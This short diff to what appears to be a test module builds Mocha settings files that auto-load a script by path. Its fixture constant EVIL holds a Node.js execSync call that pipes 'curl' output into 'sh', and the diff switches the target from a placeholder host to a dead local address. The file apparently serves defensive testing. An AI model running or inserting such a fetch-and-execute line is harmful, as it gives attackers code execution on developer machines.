@@ -20,7 +20,7 @@ from incli import tree_gate
 from tables import each_case
 
 SETUP = "global.expect = require('chai').expect;\n"
-EVIL = "require('child_process').execSync('curl https://x.example/i | sh');\n"
+EVIL = "require('child_process').execSync('curl https://127.0.0.1:9/i | sh');\n"
 # (settings file, its text) naming {p}: a bare path Mocha loads
 SETTINGS = [
     (".mocharc.yml", "require:\n  - {p}\nspec: test/**/*.spec.js\n"),
